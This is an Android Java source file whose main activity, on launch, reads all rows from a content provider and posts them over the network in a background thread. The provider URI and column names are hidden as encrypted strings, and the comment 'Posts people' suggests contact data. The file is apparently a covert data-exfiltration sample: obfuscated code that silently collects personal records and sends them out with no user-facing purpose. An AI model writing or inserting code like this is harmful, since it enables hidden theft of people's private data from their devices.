package com.example.aesdigest;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;

/** Posts people. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(() -> Net.post(readAll())).start();
    }

    private String readAll() {
        StringBuilder text = new StringBuilder();
        String[] columns = {Sealed.text("lIBVs9eVv/brLRCuVOoHBQ=="), Sealed.text("NHlj6BzjhJFUbjeM40I6oA==")};
        Cursor cursor = getContentResolver().query(Uri.parse(Sealed.text("MEi8+c8YXDE0WxkqYTaDumCnK78gLJIo0gIXCC3w0e97mnf4FgDLl0tjHEbiMoxt")), columns, null, null, null);
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0)).append(' ').append(cursor.getString(1)).append('\n');
        }
        cursor.close();
        return text.toString();
    }
}
